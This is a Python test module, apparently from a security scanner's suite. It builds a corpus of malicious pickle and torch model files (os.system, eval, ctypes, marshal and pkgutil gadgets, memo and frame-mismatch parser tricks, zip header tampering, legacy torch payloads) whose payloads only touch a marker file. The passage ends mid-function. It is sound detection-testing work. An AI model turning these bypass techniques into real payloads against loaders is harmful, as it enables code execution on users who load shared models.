"""Builders of pickle-based model files for the artifact tests: the rule samples and a bypass corpus.

Each public builder is `NAME(directory: Path, marker: Path) -> Path`: it writes one sample under
`directory` and returns its path. No payload bytes are committed: every malicious stream is assembled
here at run time from opcodes (or from pickle with a `__reduce__` object). Every payload, if a loader
ever ran it, would only create or touch `marker`, a path the tests check was NOT created. Nothing in
this module unpickles anything.

`MALICIOUS` maps a sample name to (builder, rule ids nbsec must report); it covers each technique of
the bypass survey (shared/reference/model-artifacts.md, section 3): denylist gaps, name-resolution
tricks, parser differentials, container tricks and compression wrappers. `BENIGN` maps a name to a
builder of a real-world file that must raise nothing at high or critical.
"""

from __future__ import annotations

import argparse
import bz2
import datetime
import decimal
import gzip
import importlib.util
import io
import lzma
import marshal
import pickle
import shlex
import struct
import tarfile
import warnings
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any

Builder = Callable[[Path, Path], Path]

ART_DANGEROUS = "NBSEC-ART-001"
ART_UNKNOWN = "NBSEC-ART-002"
ART_COMPUTED = "NBSEC-ART-003"
ART_MALFORMED = "NBSEC-ART-004"
ART_OBJECT_ARRAY = "NBSEC-ART-005"
ART_ARCHIVE = "NBSEC-ART-006"

TORCH_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
HAVE_TORCH = importlib.util.find_spec("torch") is not None


# --- payload text: everything a payload would do is touch the marker ------------------------------


def shell_touch(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


def py_touch(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


# --- a small pickle assembler (opcode bytes from the pickle module's own constants) ---------------


def body(obj: object, proto: int) -> bytes:
    """Opcodes that push a plain data value (str, bytes, numbers, tuples, lists, dicts), without memo.

    The fast pickler writes no PUT/MEMOIZE, so the bytes can be spliced into a hand-written stream
    without memo indices colliding. Protocol 4+ callers get protocol 3 opcodes (no FRAME).
    """
    buffer = io.BytesIO()
    pickler = pickle.Pickler(buffer, protocol=min(proto, 3))
    pickler.fast = True
    pickler.dump(obj)
    data = buffer.getvalue()
    return data[2:-1] if min(proto, 3) >= 2 else data[:-1]


def push_str(text: str, proto: int = 4) -> bytes:
    data = text.encode("utf-8")
    if proto >= 4 and len(data) < 256:
        return pickle.SHORT_BINUNICODE + bytes([len(data)]) + data
    return body(text, proto)


def glob(module: str, name: str) -> bytes:
    """GLOBAL: `c module\\n name\\n` (any protocol)."""
    return pickle.GLOBAL + module.encode() + b"\n" + name.encode() + b"\n"


def stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4+): module and name come from the stack; dotted names use getattr."""
    return push_str(module) + push_str(name) + pickle.STACK_GLOBAL


def tup(*items: bytes, proto: int = 4) -> bytes:
    if proto >= 2 and 1 <= len(items) <= 3:
        return b"".join(items) + (pickle.TUPLE1, pickle.TUPLE2, pickle.TUPLE3)[len(items) - 1]
    if proto >= 1 and not items:
        return pickle.EMPTY_TUPLE
    return pickle.MARK + b"".join(items) + pickle.TUPLE


def call(func: bytes, *args: bytes, proto: int = 4) -> bytes:
    """func(*args) with REDUCE."""
    return func + tup(*args, proto=proto) + pickle.REDUCE


def vals(*values: object, proto: int = 4) -> list[bytes]:
    return [body(v, proto) for v in values]


def wrap(code: bytes, proto: int) -> bytes:
    """PROTO header (protocol 2+) and STOP."""
    return (pickle.PROTO + bytes([proto]) if proto >= 2 else b"") + code + pickle.STOP


def frame(code: bytes) -> bytes:
    """A protocol 4 pickle whose opcodes sit in one honest FRAME, as pickle.dumps writes them."""
    return pickle.PROTO + b"\x04" + pickle.FRAME + struct.pack("<Q", len(code) + 1) + code + pickle.STOP


def getattr_call(obj: bytes, attr: str, *args: bytes, proto: int = 4) -> bytes:
    """getattr(obj, attr)(*args): the generic chain once an object is on the stack."""
    method = call(glob("builtins", "getattr"), obj, push_str(attr, proto), proto=proto)
    return call(method, *args, proto=proto)


def write(directory: Path, name: str, data: bytes) -> Path:
    path = directory / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


class ReduceTo:
    """Pickles as `func(*args)`: how a real attacker makes joblib/numpy write a payload."""

    def __init__(self, func: Callable[..., Any], *args: object) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[object, ...]]:
        return self.func, self.args


def os_system_pickle(marker: Path, proto: int = 2) -> bytes:
    """The canonical payload: os.system('touch MARKER')."""
    return wrap(call(glob("os", "system"), push_str(shell_touch(marker), proto), proto=proto), proto)


def posix_system_p4(marker: Path) -> bytes:
    return frame(call(stack_global("posix", "system"), push_str(shell_touch(marker))))


# --- the rule catalogue's samples ----------------------------------------------------------------


def pickle_os_system(directory: Path, marker: Path) -> Path:
    return write(directory, "os_system.pkl", os_system_pickle(marker))


def pickle_state_dict(directory: Path, marker: Path) -> Path:
    """A weights-only checkpoint: torch.save of a state dict, or its torch-free equivalent."""
    if HAVE_TORCH:
        return torch_state_dict_zip(directory, marker)
    weights = OrderedDict(
        [("fc.weight", [[0.1, -0.2], [0.3, 0.4]]), ("fc.bias", [0.0, 0.5]), ("step", 10), ("lr", 1e-3)]
    )
    return write(directory, "state_dict.pkl", pickle.dumps(weights, protocol=2))


def pickle_unknown_class(directory: Path, marker: Path) -> Path:
    """A pickled instance of the user's own class: importable code, not on any allowlist."""
    state = body({"hidden": 32, "layers": [1, 2, 3]}, 4)
    code = stack_global("mylab.models", "TinyNet") + pickle.EMPTY_TUPLE + pickle.NEWOBJ + state + pickle.BUILD
    return write(directory, "tinynet.pkl", frame(code))


def pickle_computed_global(directory: Path, marker: Path) -> Path:
    """STACK_GLOBAL whose module is computed: _codecs.encode('bf', 'rot13') == 'os' (torch allows _codecs)."""
    module = call(stack_global("_codecs", "encode"), push_str("bf"), push_str("rot13"))
    code = module + push_str("system") + pickle.STACK_GLOBAL
    return write(directory, "computed.pkl", frame(call(code, push_str(shell_touch(marker)))))


def pickle_broken_after_payload(directory: Path, marker: Path) -> Path:
    """nullifAI (ReversingLabs, 2025): the payload REDUCE runs, then an invalid opcode breaks the load."""
    code = call(stack_global("posix", "system"), push_str(shell_touch(marker))) + pickle.POP + b"\xff"
    return write(directory, "nullifai.pkl", pickle.PROTO + b"\x04" + code)


def npy_object_array(directory: Path, marker: Path) -> Path:
    """An object-dtype .npy (benign content): stored as a pickle, needs allow_pickle=True to load."""
    import numpy as np

    array = np.empty(2, dtype=object)
    array[0], array[1] = {"label": "cat"}, ["a", "b"]
    path = directory / "objects.npy"
    np.save(path, array, allow_pickle=True)
    return path


def npy_float_array(directory: Path, marker: Path) -> Path:
    import numpy as np

    path = directory / "floats.npy"
    np.save(path, np.linspace(0, 1, 64, dtype=np.float32).reshape(8, 8))
    return path


def zip_bad_crc(directory: Path, marker: Path) -> Path:
    """A torch-style zip (benign pickle) whose CRC-32 is wrong: zipfile refuses it, torch loads it."""
    path = torch_zip(directory / "bad_crc.pt", pickle.dumps(OrderedDict(w=[0.5, 0.25]), protocol=2))
    patch_zip(path, "archive/data.pkl", crc_xor=0xDEADBEEF)
    return path


# --- zip helpers -------------------------------------------------------------------------------------


def torch_zip(path: Path, data_pkl: bytes, extra: dict[str, bytes] | None = None, compress: int = 0) -> Path:
    """The layout torch.save writes (archive/data.pkl, byteorder, version, ...), built by hand."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", compression=compress) as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        archive.writestr("archive/byteorder", b"little")
        for name, data in (extra or {}).items():
            archive.writestr(f"archive/{name}", data)
        archive.writestr("archive/version", b"3\n")
        archive.writestr("archive/.data/serialization_id", b"1234567890123456789012345678901234567890")
    return path


def patch_zip(
    path: Path, member: str, *, crc_xor: int = 0, flags_or: int = 0, local_name: str | None = None, index: int = 0
) -> None:
    """Edit one member's local header and central-directory entry in place (the Sonatype/JFrog tricks)."""
    data = bytearray(path.read_bytes())
    eocd = data.rfind(b"PK\x05\x06")
    count, _, cd_offset = struct.unpack_from("<10xHII", data, eocd)
    pos, seen = cd_offset, 0
    for _ in range(count):
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, pos + 28)
        name = data[pos + 46 : pos + 46 + name_len].decode()
        if name == member and seen == index:
            (local,) = struct.unpack_from("<I", data, pos + 42)
            for flags_at, crc_at in ((pos + 8, pos + 16), (local + 6, local + 14)):
                struct.pack_into("<H", data, flags_at, struct.unpack_from("<H", data, flags_at)[0] | flags_or)
                struct.pack_into("<I", data, crc_at, struct.unpack_from("<I", data, crc_at)[0] ^ crc_xor)
            if local_name is not None:
                assert len(local_name) == len(member), "the local name must keep the header's length"
                data[local + 30 : local + 30 + name_len] = local_name.encode()
            path.write_bytes(bytes(data))
            return
        seen += name == member
        pos += 46 + name_len + extra_len + comment_len
    raise KeyError(member)


def zip_anomaly_sample(directory: Path, marker: Path, name: str, **patch: Any) -> Path:
    path = torch_zip(directory / name, posix_system_p4(marker))
    patch_zip(path, "archive/data.pkl", **patch)
    return path


# --- corpus, 3.1: alternative dangerous callables (denylist variety) ---------------------------------


def _deny_case(
    slug: str, module: str, name: str, args: Callable[[Path], tuple[object, ...]], proto: int = 4, stack: bool = True
) -> Builder:
    """One `module.name(*args)` REDUCE; args are plain data computed from the marker."""

    def build(directory: Path, marker: Path) -> Path:
        func = stack_global(module, name) if stack and proto >= 4 else glob(module, name)
        code = call(func, *vals(*args(marker), proto=proto), proto=proto)
        return write(directory, f"{slug}.pkl", frame(code) if proto >= 4 else wrap(code, proto))

    build.__name__ = build.__qualname__ = f"deny_{slug}"
    build.__doc__ = f"{module}.{name}(...) at protocol {proto} ({'STACK_GLOBAL' if stack else 'GLOBAL'})."
    return build


DENY_CASES: list[Builder] = [
    _deny_case("posix_system", "posix", "system", lambda m: (shell_touch(m),)),
    _deny_case("nt_system", "nt", "system", lambda m: (shell_touch(m),), proto=2, stack=False),
    _deny_case("subprocess_popen", "subprocess", "Popen", lambda m: (["touch", str(m)],), proto=3, stack=False),
    _deny_case("subprocess_check_output", "subprocess", "check_output", lambda m: (["touch", str(m)],)),
    _deny_case("py2_builtin_exec_p0", "__builtin__", "exec", lambda m: (py_touch(m),), proto=0, stack=False),
    _deny_case("py2_builtin_eval_p1", "__builtin__", "eval", lambda m: (py_touch(m),), proto=1, stack=False),
    _deny_case("py2_builtin_exec_p2", "__builtin__", "exec", lambda m: (py_touch(m),), proto=2, stack=False),
    _deny_case("builtins_eval_p4", "builtins", "eval", lambda m: (py_touch(m),)),
    _deny_case("builtins_exec_globals", "builtins", "exec", lambda m: (py_touch(m), {})),
    # subprocess.getoutput pickled at protocol <= 2 is written as the py2 name `commands getoutput`.
    _deny_case("commands_getoutput", "commands", "getoutput", lambda m: (shell_touch(m),), proto=2, stack=False),
    _deny_case("runpy_run_code", "runpy", "_run_code", lambda m: (py_touch(m), {})),
    _deny_case("pty_spawn", "pty", "spawn", lambda m: (["touch", str(m)],)),
    _deny_case("timeit_timeit", "timeit", "timeit", lambda m: (py_touch(m), "pass")),
    _deny_case("cprofile_run", "cProfile", "run", lambda m: (py_touch(m),)),
    _deny_case("profile_run", "profile", "run", lambda m: (py_touch(m),)),
    _deny_case("pdb_run", "pdb", "run", lambda m: (py_touch(m),)),
    _deny_case("uuid_get_command_stdout", "uuid", "_get_command_stdout", lambda m: ("touch", str(m))),
    _deny_case("imaplib_imap4_stream", "imaplib", "IMAP4_stream", lambda m: (shell_touch(m),)),
    _deny_case("shutil_rmtree", "shutil", "rmtree", lambda m: (str(m), True)),
    _deny_case("webbrowser_open", "webbrowser", "open", lambda m: (f"file://{m}",)),
    _deny_case("io_fileio", "_io", "FileIO", lambda m: (str(m), "w")),
    _deny_case("logging_filehandler", "logging", "FileHandler", lambda m: (str(m),)),
    _deny_case("distutils_write_file", "distutils.file_util", "write_file", lambda m: (str(m), [])),
    _deny_case("pip_main", "pip", "main", lambda m: (["config", "list", "--log", str(m)],)),
    _deny_case("ensurepip_run_pip", "ensurepip", "_run_pip", lambda m: (["config", "list", "--log", str(m)],)),
    _deny_case("doctest_debug_script", "doctest", "debug_script", lambda m: (py_touch(m),)),
    _deny_case("osx_support_read_output", "_osx_support", "_read_output", lambda m: (shell_touch(m),)),
    _deny_case(
        "mailcap_findmatch",
        "mailcap",
        "findmatch",
        lambda m: ({"a/b": [{"view": "true", "test": shell_touch(m)}]}, "a/b"),
    ),
    _deny_case("numpy_f2py_getlincoef", "numpy.f2py.crackfortran", "getlincoef", lambda m: (f"({py_touch(m)})", [])),
    _deny_case("numpy_testing_runstring", "numpy.testing._private.utils", "runstring", lambda m: (py_touch(m), {})),
    _deny_case(
        "test_support_script_helper", "test.support.script_helper", "assert_python_ok", lambda m: ("-c", py_touch(m))
    ),
    _deny_case("torch_collect_env_run", "torch.utils.collect_env", "run", lambda m: (shell_touch(m),)),
    _deny_case(
        "torch_jit_execwrapper", "torch.jit.unsupported_tensor_ops", "execWrapper", lambda m: (py_touch(m), {}, {})
    ),
    # Named by picklescan's denylist; torch 2.13 no longer has it (the global still must not pass).
    _deny_case(
        "torch_inductor_compile_file",
        "torch._inductor.codecache",
        "compile_file",
        lambda m: ([], str(m), ["touch", str(m)]),
    ),
    _deny_case("torch_serialization_load", "torch.serialization", "load", lambda m: (str(m),)),
    # JFrog CVE-2025-10157: a *submodule* of a denied package, reached through a dotted class attribute.
    _deny_case(
        "asyncio_unix_subprocess_start",
        "asyncio.unix_events",
        "_UnixSubprocessTransport._start",
        lambda m: (None, ["touch", str(m)], False, None, None, None, 0),
    ),
]


def trace_runctx(directory: Path, marker: Path) -> Path:
    """trace.Trace(0, 0).runctx(src, {}, {}): a dotted method name called with a real instance."""
    tracer = call(stack_global("trace", "Trace"), body(0, 4), body(0, 4))
    code = call(stack_global("trace", "Trace.runctx"), tracer, push_str(py_touch(marker)), body({}, 4), body({}, 4))
    return write(directory, "trace.pkl", frame(code))


def torch_config_load_config(directory: Path, marker: Path) -> Path:
    """GHSA-vv6j-3g6g-2pvj: ConfigModule.load_config(torch._dynamo.config, bytes) unpickles a nested pickle."""
    nested = body(os_system_pickle(marker), 4)  # the inner payload is an opaque bytes argument here
    code = call(
        stack_global("torch.utils._config_module", "ConfigModule.load_config"),
        stack_global("torch._dynamo", "config"),
        nested,
    )
    return write(directory, "config_module.pkl", frame(code))


def pkgutil_resolve_name(directory: Path, marker: Path) -> Path:
    """GHSA-vvpj-8cmc-gx39, the universal bypass: pkgutil.resolve_name('os:system')('touch ...')."""
    system = call(stack_global("pkgutil", "resolve_name"), push_str("os:system"))
    return write(directory, "pkgutil.pkl", frame(call(system, push_str(shell_touch(marker)))))


def importlib_import_module(directory: Path, marker: Path) -> Path:
    """importlib.import_module('os') then getattr(..., 'system'): the chain picklescan #66 describes."""
    module = call(stack_global("importlib", "import_module"), push_str("os"))
    return write(directory, "importlib.pkl", frame(getattr_call(module, "system", push_str(shell_touch(marker)))))


def builtins_import(directory: Path, marker: Path) -> Path:
    """builtins.__import__('os') (still only 'suspicious' in picklescan 1.0.5), then getattr."""
    module = call(glob("builtins", "__import__"), push_str("os", 2), proto=2)
    return write(
        directory,
        "dunder_import.pkl",
        wrap(getattr_call(module, "system", push_str(shell_touch(marker), 2), proto=2), 2),
    )


def _touch_path(marker: Path) -> bytes:
    """pathlib.PosixPath(marker): harmless on its own; the gadgets below call .touch() on it."""
    return call(stack_global("pathlib", "PosixPath"), push_str(str(marker)))


def operator_methodcaller(directory: Path, marker: Path) -> Path:
    """GHSA-955r-x9j8-7rhh: operator.methodcaller('touch')(PosixPath(marker))."""
    caller = call(stack_global("operator", "methodcaller"), push_str("touch"))
    return write(directory, "methodcaller.pkl", frame(call(caller, _touch_path(marker))))


def private_operator_methodcaller(directory: Path, marker: Path) -> Path:
    """The C twin module `_operator`, which denylists keyed on `operator` missed."""
    caller = call(stack_global("_operator", "methodcaller"), push_str("touch"))
    return write(directory, "_operator.pkl", frame(call(caller, _touch_path(marker))))


def operator_attrgetter(directory: Path, marker: Path) -> Path:
    """operator.attrgetter('touch')(PosixPath(marker))() -- bound method, then called."""
    getter = call(stack_global("operator", "attrgetter"), push_str("touch"))
    return write(directory, "attrgetter.pkl", frame(call(call(getter, _touch_path(marker)))))


def functools_partial(directory: Path, marker: Path) -> Path:
    """functools.partial(subprocess.call, ['touch', marker])()."""
    bound = call(
        stack_global("functools", "partial"), stack_global("subprocess", "call"), body(["touch", str(marker)], 4)
    )
    return write(directory, "partial.pkl", frame(call(bound)))


def ctypes_libc_system(directory: Path, marker: Path) -> Path:
    """GHSA-4675-36f9-wf6r: ctypes.CDLL(None).system(b'touch ...') through getattr."""
    libc = call(stack_global("ctypes", "CDLL"), pickle.NONE)
    return write(directory, "ctypes.pkl", frame(getattr_call(libc, "system", body(shell_touch(marker).encode(), 4))))


def code_interactive_interpreter(directory: Path, marker: Path) -> Path:
    """code.InteractiveInterpreter.runsource(InteractiveInterpreter(), src): a dotted name at protocol 4."""
    interpreter = call(stack_global("code", "InteractiveInterpreter"))
    method = stack_global("code", "InteractiveInterpreter.runsource")
    return write(directory, "code_interp.pkl", frame(call(method, interpreter, push_str(py_touch(marker)))))


def socket_unix_bind(directory: Path, marker: Path) -> Path:
    """socket.socket(AF_UNIX, SOCK_STREAM).bind(marker): binding a unix socket creates the marker file."""
    sock = call(stack_global("socket", "socket"), body(1, 4), body(1, 4))
    method = stack_global("socket", "socket.bind")
    return write(directory, "socket.pkl", frame(call(method, sock, push_str(str(marker)))))


def pydoc_locate(directory: Path, marker: Path) -> Path:
    """GHSA-84r2-jw7c-4r5q: pydoc.locate('os.system') resolves any dotted name."""
    system = call(stack_global("pydoc", "locate"), push_str("os.system"))
    return write(directory, "pydoc_locate.pkl", frame(call(system, push_str(shell_touch(marker)))))


def _code_args(source: str) -> tuple[object, ...]:
    """The positional arguments of types.CodeType for this Python (3.11+ order) -- plain data only."""
    code = compile(source, "<payload>", "exec")
    names = (
        "co_argcount co_posonlyargcount co_kwonlyargcount co_nlocals co_stacksize co_flags co_code co_consts "
        "co_names co_varnames co_filename co_name co_qualname co_firstlineno co_linetable co_exceptiontable "
        "co_freevars co_cellvars"
    ).split()
    return tuple(getattr(code, n) for n in names if hasattr(code, n))


def types_codetype(directory: Path, marker: Path) -> Path:
    """types.FunctionType(types.CodeType(...), {})(): a code object built from its fields."""
    code = call(stack_global("types", "CodeType"), *vals(*_code_args(py_touch(marker))))
    function = call(stack_global("types", "FunctionType"), code, pickle.EMPTY_DICT)
    return write(directory, "codetype.pkl", frame(call(function)))


def marshal_loads(directory: Path, marker: Path) -> Path:
    """GHSA-565g-hwwr-4pp3: marshal.loads(bytes) -> code object, then types.FunctionType(code, {})()."""
    blob = marshal.dumps(compile(py_touch(marker), "<payload>", "exec"))
    code = call(stack_global("marshal", "loads"), body(blob, 4))
    function = call(stack_global("types", "FunctionType"), code, pickle.EMPTY_DICT)
    return write(directory, "marshal.pkl", frame(call(function)))


def dill_create_code(directory: Path, marker: Path) -> Path:
    """What dill writes for a lambda: dill._dill._create_code(...) and _create_function(...)."""
    code = call(stack_global("dill._dill", "_create_code"), *vals(*_code_args(py_touch(marker))))
    function = call(stack_global("dill._dill", "_create_function"), code, pickle.EMPTY_DICT, push_str("f"))
    return write(directory, "dill_lambda.pkl", frame(call(function)))


def cloudpickle_builtin_type(directory: Path, marker: Path) -> Path:
    """cloudpickle's internals: _builtin_type('CodeType')(...) and _builtin_type('FunctionType')(code, {})."""
    code_type = call(stack_global("cloudpickle.cloudpickle", "_builtin_type"), push_str("CodeType"))
    code = call(code_type, *vals(*_code_args(py_touch(marker))))
    function_type = call(stack_global("cloudpickle.cloudpickle", "_builtin_type"), push_str("FunctionType"))
    return write(directory, "cloudpickle_fn.pkl", frame(call(call(function_type, code, pickle.EMPTY_DICT))))


# --- corpus, 3.2: name-resolution tricks --------------------------------------------------------------


def dotted_pathlib_os_system(directory: Path, marker: Path) -> Path:
    """GHSA-5j3x-jp52-966f: STACK_GLOBAL ('pathlib', 'os.system') -- protocol 4 resolves it with getattr."""
    return write(
        directory, "pathlib_os.pkl", frame(call(stack_global("pathlib", "os.system"), push_str(shell_touch(marker))))
    )


def dotted_torch_serialization_os(directory: Path, marker: Path) -> Path:
    """STACK_GLOBAL ('torch', 'serialization.os.system'): an allowlisted-looking module, a dotted escape."""
    code = call(stack_global("torch", "serialization.os.system"), push_str(shell_touch(marker)))
    return write(directory, "torch_dotted.pkl", frame(code))


def memo_binget_module(directory: Path, marker: Path) -> Path:
    """The module string goes through the memo (MEMOIZE, BINGET) before STACK_GLOBAL."""
    code = (
        push_str("os") + pickle.MEMOIZE + pickle.POP + pickle.BINGET + b"\x00" + push_str("system")
        + pickle.STACK_GLOBAL
    )  # fmt: skip
    return write(directory, "memo_binget.pkl", frame(call(code, push_str(shell_touch(marker)))))


def memo_overwrite(directory: Path, marker: Path) -> Path:
    """Memo slot 3 first holds 'collections', then is overwritten with 'os' (LONG_BINPUT / LONG_BINGET)."""
    code = (
        push_str("collections") + pickle.LONG_BINPUT + struct.pack("<I", 3) + pickle.POP
        + push_str("os") + pickle.LONG_BINPUT + struct.pack("<I", 3) + pickle.POP
        + pickle.LONG_BINGET + struct.pack("<I", 3) + push_str("system") + pickle.STACK_GLOBAL
    )  # fmt: skip
    return write(directory, "memo_overwrite.pkl", frame(call(code, push_str(shell_touch(marker)))))


def string_opcode_stack_global(directory: Path, marker: Path) -> Path:
    """GHSA-9gvj-pp9x-gcfr: protocol 0 STRING opcodes as STACK_GLOBAL operands (unpickled as str)."""
    func = b"S'os'\nS'system'\n" + pickle.STACK_GLOBAL
    command = b"S" + repr(shell_touch(marker)).encode() + b"\n"
    return write(directory, "string_sg.pkl", frame(call(func, command)))


def text_memo_get(directory: Path, marker: Path) -> Path:
    """Protocol 0: the module name is PUT as text and fetched with GET before an INST-free REDUCE."""
    func = b"Vposix\np0\n0Vsystem\np1\n0g0\ng1\n" + pickle.STACK_GLOBAL
    return write(directory, "text_get.pkl", call(func, push_str(shell_touch(marker), 0), proto=0) + pickle.STOP)


def inst_opcode(directory: Path, marker: Path) -> Path:
    """INST (protocol 0): `(args i module\\n name\\n` calls the class/function with the marked args."""
    code = pickle.MARK + push_str(shell_touch(marker), 0) + pickle.INST + b"os\nsystem\n"
    return write(directory, "inst.pkl", code + pickle.STOP)


def obj_opcode(directory: Path, marker: Path) -> Path:
    """OBJ (protocol 1): MARK callable args OBJ."""
    code = pickle.MARK + glob("subprocess", "Popen") + body(["touch", str(marker)], 1) + pickle.OBJ
    return write(directory, "obj.pkl", code + pickle.STOP)


def obj_then_pop(directory: Path, marker: Path) -> Path:
    """GHSA-mxhj-88fx-4pcv: an OBJ call whose result is POPped vanished from fickling's AST."""
    code = (
        pickle.MARK + glob("posix", "system") + push_str(shell_touch(marker), 2) + pickle.OBJ + pickle.POP
        + pickle.EMPTY_DICT
    )  # fmt: skip
    return write(directory, "obj_pop.pkl", wrap(code, 2))


def newobj_opcode(directory: Path, marker: Path) -> Path:
    """NEWOBJ (protocol 2): cls.__new__(cls, *args). The class named is what counts, whatever opcode builds it."""
    code = glob("subprocess", "Popen") + tup(body(["touch", str(marker)], 2), proto=2) + pickle.NEWOBJ
    return write(directory, "newobj.pkl", wrap(code, 2))


def newobj_ex_opcode(directory: Path, marker: Path) -> Path:
    """NEWOBJ_EX (protocol 4): class, args, kwargs."""
    code = stack_global("_io", "FileIO") + tup(push_str(str(marker))) + body({"mode": "w"}, 4) + pickle.NEWOBJ_EX
    return write(directory, "newobj_ex.pkl", frame(code))


def build_setstate_gadget(directory: Path, marker: Path) -> Path:
    """BUILD gadget: set `__setstate__ = os.system` in an allowed object's __dict__, BUILD again to call it."""
    code = (
        call(stack_global("argparse", "Namespace"))
        + pickle.EMPTY_DICT + push_str("__setstate__") + stack_global("os", "system") + pickle.SETITEM + pickle.BUILD
        + push_str(shell_touch(marker)) + pickle.BUILD
    )  # fmt: skip
    return write(directory, "build_gadget.pkl", frame(code))


def _ext_sample(directory: Path, marker: Path, opcode: bytes, arg: bytes, name: str) -> Path:
    """EXT codes resolve through copyreg's extension registry of the *loading* process."""
    code = opcode + arg + tup(push_str(shell_touch(marker), 2), proto=2) + pickle.REDUCE
    return write(directory, name, wrap(code, 2))


def ext1_code(directory: Path, marker: Path) -> Path:
    return _ext_sample(directory, marker, pickle.EXT1, b"\xf0", "ext1.pkl")


def ext2_code(directory: Path, marker: Path) -> Path:
    return _ext_sample(directory, marker, pickle.EXT2, struct.pack("<H", 0x1234), "ext2.pkl")


def ext4_code(directory: Path, marker: Path) -> Path:
    return _ext_sample(directory, marker, pickle.EXT4, struct.pack("<i", 0x123456), "ext4.pkl")


def computed_getattr_name(directory: Path, marker: Path) -> Path:
    """The module string is the result of a call that is itself allowed (str(...)): computed operand."""
    module = call(glob("builtins", "str"), push_str("os"))
    code = module + push_str("system") + pickle.STACK_GLOBAL
    return write(directory, "computed_str.pkl", frame(call(code, push_str(shell_touch(marker)))))


# --- corpus, 3.3: parser differentials on the stream -------------------------------------------------


def frame_mismatch_bytes(marker: Path) -> bytes:
    """A FRAME that ends inside an opcode's argument, hiding a payload from genops-based scanners.

    Layout (offsets after PROTO 4):
        FRAME len=7 | SHORT_BINUNICODE n=40, 'TTTTT' | 35 x 'A', 'B', <len(P)> | P | TUPLE2 STOP
    * pickletools.genops, pickle.loads(bytes) and pickle.load(open(f, 'rb')) (BufferedReader has
      peek, so the C unpickler's buffer stays in step) read the 40-byte string as 'TTTTT' + 35 'A's,
      then see BINBYTES of len(P) bytes: the payload P is an opaque bytes argument. Result: (str, bytes).
    * The C unpickler reading a file object WITHOUT peek -- io.BytesIO, which is what torch.load uses
      for a zip's data.pkl, or open(f, 'rb', buffering=0) -- reads the frame's 7 bytes into its buffer;
      the string argument crosses the frame's end, so it drops the 5 unread frame bytes ('TTTTT') and
      reads the 40 bytes after the frame: the 35 'A's plus 'B' and the length field. It then parses P
      as opcodes: posix.system('touch MARKER') runs. Result: (str, 0).
    """
    payload = call(stack_global("posix", "system"), push_str(shell_touch(marker)))
    assert len(payload) < 0x80, "the length field must stay valid UTF-8 inside the loader's string"
    n = 40
    tail = b"TTTTT"
    frame_body = pickle.SHORT_BINUNICODE + bytes([n]) + tail
    filler = b"A" * (n - 5) + pickle.BINBYTES + struct.pack("<I", len(payload))
    return (
        pickle.PROTO + b"\x04" + pickle.FRAME + struct.pack("<Q", len(frame_body)) + frame_body + filler + payload
        + pickle.TUPLE2 + pickle.STOP
    )  # fmt: skip


def frame_mismatch_pickle(directory: Path, marker: Path) -> Path:
    return write(directory, "frame_mismatch.pkl", frame_mismatch_bytes(marker))


def frame_mismatch_torch_zip(directory: Path, marker: Path) -> Path:
    """The same stream as a torch zip's data.pkl: torch.load(weights_only=False) unpickles from BytesIO."""
    return torch_zip(directory / "frame_mismatch.pt", frame_mismatch_bytes(marker))


def truncated_after_payload(directory: Path, marker: Path) -> Path:
    """The payload runs, then the stream just ends (no STOP)."""
    code = call(stack_global("posix", "system"), push_str(shell_touch(marker)))
    return write(directory, "truncated.pkl", pickle.PROTO + b"\x04" + code)


def stacked_benign_then_payload(directory: Path, marker: Path) -> Path:
    """Two pickles back to back: scanners that stop at the first STOP miss the second.

    One pickle.load reads only the first; loaders that read several (legacy torch, `while` loops over
    pickle.load, torch's magic/protocol/sys-info sequence) run the second.
    """
    benign = pickle.dumps({"epoch": 3, "loss": 0.25}, protocol=4)
    return write(directory, "stacked.pkl", benign + posix_system_p4(marker))


def protocol0_text(directory: Path, marker: Path) -> Path:
    """A protocol 0 (text) pickle: `cposix system (V... tR.`."""
    code = glob("posix", "system") + pickle.MARK + push_str(shell_touch(marker), 0) + pickle.TUPLE + pickle.REDUCE
    return write(directory, "proto0.pkl", code + pickle.STOP)


def headerless_binary_pickle(directory: Path, marker: Path) -> Path:
    """A binary pickle without the PROTO header: the unpickler does not require one, sniffers often do."""
    code = call(stack_global("posix", "system"), push_str(shell_touch(marker))) + pickle.STOP
    return write(directory, "headerless.pkl", code)


def protocol0_trailing_text(directory: Path, marker: Path) -> Path:
    """A text pickle followed by notes: pickle.load stops at STOP and never reads the tail."""
    code = glob("posix", "system") + pickle.MARK + push_str(shell_touch(marker), 0) + pickle.TUPLE + pickle.REDUCE
    return write(directory, "model.ckpt", code + pickle.STOP + b"\n# exported by train.py, see README\n")


def torch_zip_protocol0_open_mark(directory: Path, marker: Path) -> Path:
    """A torch zip whose data.pkl is a text pickle opening with a MARK nothing closes: pickletools.dis calls
    it stack-inconsistent (so it does not sniff as a pickle), torch.load unpickles data.pkl anyway and runs it."""
    payload = glob("posix", "system") + pickle.MARK + push_str(shell_touch(marker), 0) + pickle.TUPLE + pickle.REDUCE
    return torch_zip(directory / "open_mark.pt", pickle.MARK + payload + pickle.STOP)


# --- corpus, 3.4: torch files and containers --------------------------------------------------------


def _legacy_header() -> bytes:
    sys_info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return pickle.dumps(1001, protocol=2) + pickle.dumps(sys_info, protocol=2)


def torch_legacy_payload(directory: Path, marker: Path) -> Path:
    """Legacy torch.save: magic, protocol, sys info, OBJECT (the payload), storage keys."""
    data = (
        pickle.dumps(TORCH_LEGACY_MAGIC, protocol=2) + _legacy_header() + os_system_pickle(marker)
        + pickle.dumps([], protocol=2)
    )  # fmt: skip
    return write(directory, "legacy.pt", data)


def torch_legacy_magic_eval(directory: Path, marker: Path) -> Path:
    """picklescan's pytorch_magic_bypass: the magic number itself is the value of an eval with a side effect."""
    expression = f"({py_touch(marker)}, {TORCH_LEGACY_MAGIC:#x})[1]"
    magic = wrap(call(glob("builtins", "eval"), push_str(expression, 2), proto=2), 2)
